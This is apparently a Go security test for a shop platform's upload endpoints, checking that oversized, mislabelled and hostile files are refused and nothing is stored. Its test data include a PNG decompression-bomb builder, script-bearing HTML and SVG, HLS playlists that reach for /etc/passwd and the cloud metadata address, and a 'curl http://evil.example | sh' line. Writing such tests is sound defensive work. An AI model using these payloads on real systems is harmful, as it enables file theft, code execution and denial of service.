package security

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"hash/crc32"
	"io"
	"io/fs"
	"net/http"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/buylink/buylink/pkg/media"
)

// pngBomb is a real PNG of w x h grey pixels, all zero: a small file that
// decodes to w*h bytes.
func pngBomb(t *testing.T, w, h int) []byte {
	t.Helper()
	chunk := func(out *bytes.Buffer, typ string, data []byte) {
		_ = binary.Write(out, binary.BigEndian, uint32(len(data)))
		body := append([]byte(typ), data...)
		out.Write(body)
		_ = binary.Write(out, binary.BigEndian, crc32.ChecksumIEEE(body))
	}
	var out, idat bytes.Buffer
	out.WriteString("\x89PNG\r\n\x1a\n")
	ihdr := binary.BigEndian.AppendUint32(nil, uint32(w))
	ihdr = binary.BigEndian.AppendUint32(ihdr, uint32(h))
	chunk(&out, "IHDR", append(ihdr, 8, 0, 0, 0, 0))
	z, _ := zlib.NewWriterLevel(&idat, zlib.BestCompression)
	row := make([]byte, w+1)
	for range h {
		_, _ = z.Write(row)
	}
	_ = z.Close()
	chunk(&out, "IDAT", idat.Bytes())
	chunk(&out, "IEND", nil)
	return out.Bytes()
}

// videoFiles counts the uploaded videos in the stack's media.
func (s *stack) videoFiles(t *testing.T) int {
	t.Helper()
	n := 0
	_ = filepath.WalkDir(filepath.Join(s.dir, "media"), func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() && strings.Contains(filepath.ToSlash(p), "/videos/") {
			n++
		}
		return nil
	})
	return n
}

// zeros streams n zero bytes.
type zeros struct{ n int64 }

func (z *zeros) Read(p []byte) (int, error) {
	if z.n <= 0 {
		return 0, io.EOF
	}
	if int64(len(p)) > z.n {
		p = p[:z.n]
	}
	clear(p)
	z.n -= int64(len(p))
	return len(p), nil
}

// Upload attacks (held): oversized files, files that are not what they
// claim to be (markup, playlists that make a decoder fetch, other formats)
// and image bombs are refused with 400 or 413 naming the field, before
// anything is decoded, and nothing is stored.
func TestAttackUploads(t *testing.T) {
	s := startStack(t)
	sl := s.newSeller(t, "own.shop")
	p := decode[struct{ ID string }](t, s.json(t, "POST", "/api/seller/products", sl.token, map[string]any{"title": "Mug", "buyUrl": "https://shop.example.com/mug"}), 201)
	l := decode[struct{ ID string }](t, s.json(t, "POST", "/api/seller/links", sl.token, map[string]any{"title": "Store", "url": "https://shop.example.com/"}), 201)
	before, videosBefore := s.ownState(t, sl), s.videoFiles(t)
	mp4 := clip(t, 360, 640)

	videos := []struct{ name, contentType, data, want string }{
		{"HTML named .mp4", "video/mp4", "<html><script>alert(1)</script></html>", "not an MP4"},
		{"HLS playlist reading a local file", "video/mp4", "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n", "not an MP4"},
		{"HLS playlist fetching an internal URL", "application/vnd.apple.mpegurl", "#EXTM3U\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data/\n", "not an MP4"},
		{"JPEG named .mp4", "video/mp4", "\xff\xd8\xff\xe0\x00\x10JFIF\x00", "not an MP4"},
		{"shell script", "video/mp4", "#!/bin/sh\ncurl http://evil.example | sh\n", "not an MP4"},
		{"truncated MP4", "video/mp4", string(mp4[:len(mp4)-700]), "truncated"},
		{"empty file", "video/mp4", "", "empty"},
	}
	for _, v := range videos {
		body, ct := multipartBody(t, part{name: "caption", value: "Mug $19"}, part{name: "file", filename: "clip.mp4", contentType: v.contentType, value: v.data})
		a := s.do(t, request{method: "POST", path: "/api/seller/videos", body: body, contentType: ct, token: sl.token})
		try(t, "upload: wrong content", "video "+v.name, a.status == http.StatusBadRequest && strings.Contains(a.message(), v.want), "%s", a)
	}
	// A real MP4 head followed by more than the limit, streamed.
	head, ct := multipartBody(t, part{name: "caption", value: "Mug $19"}, part{name: "file", filename: "big.mp4", contentType: "video/mp4", value: string(mp4)})
	headBytes, _ := io.ReadAll(head)
	cut := bytes.LastIndex(headBytes, []byte("\r\n--"))
	stream := io.MultiReader(bytes.NewReader(headBytes[:cut]), &zeros{media.MaxVideoBytes + 1<<20}, bytes.NewReader(headBytes[cut:]))
	a := s.do(t, request{method: "POST", path: "/api/seller/videos", body: stream, contentType: ct, token: sl.token})
	try(t, "upload: oversized", "video over 50 MB", a.status == http.StatusRequestEntityTooLarge, "%s", a)

	targets := []struct{ path, field string }{
		{"/api/seller/profile/avatar", "avatar"}, {"/api/seller/products/" + p.ID + "/image", "image"}, {"/api/seller/links/" + l.ID + "/image", "image"},
	}
	bomb := pngBomb(t, 10000, 10000)
	wide := pngBomb(t, 200000, 2)
	huge := make([]byte, media.MaxImageBytes+1024)
	copy(huge, pngBytes(t, 100, 100))
	images := []struct {
		name, kind, data string
		status           int
		want             string
	}{
		{"PNG bomb 10000x10000 (" + strconv.Itoa(len(bomb)>>10) + " KB)", "upload: image bomb", string(bomb), http.StatusRequestEntityTooLarge, "megapixels"},
		{"PNG bomb 200000x2", "upload: image bomb", string(wide), http.StatusRequestEntityTooLarge, "megapixels"},
		{"over 5 MB", "upload: oversized", string(huge), http.StatusRequestEntityTooLarge, "limit of 5 MB"},
		{"SVG with a script", "upload: wrong content", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`, http.StatusBadRequest, "SVG"},
		{"HTML named .png", "upload: wrong content", "<html><script>alert(1)</script>", http.StatusBadRequest, "markup"},
		{"PDF named .png", "upload: wrong content", "%PDF-1.7\n", http.StatusBadRequest, "not a JPEG, PNG or WebP"},
		{"GIF", "upload: wrong content", "GIF89a\x10\x27\x10\x27\x00\x00\x00", http.StatusBadRequest, "GIF"},
	}
	for _, tg := range targets {
		for _, im := range images {
			body, ct := multipartBody(t, part{name: tg.field, filename: "x.png", contentType: "image/png", value: im.data})
			a := s.do(t, request{method: "POST", path: tg.path, body: body, contentType: ct, token: sl.token})
			try(t, im.kind, tg.path+" "+im.name, a.status == im.status && strings.Contains(a.message(), im.want) && strings.Contains(a.message(), tg.field), "%s", a)
		}
	}
	if after := s.ownState(t, sl); after != before {
		t.Fatalf("refused uploads changed the shop:\nbefore %s\nafter  %s", before, after)
	}
	if n := s.videoFiles(t); n != videosBefore {
		t.Fatalf("refused uploads left %d video files", n-videosBefore)
	}
}
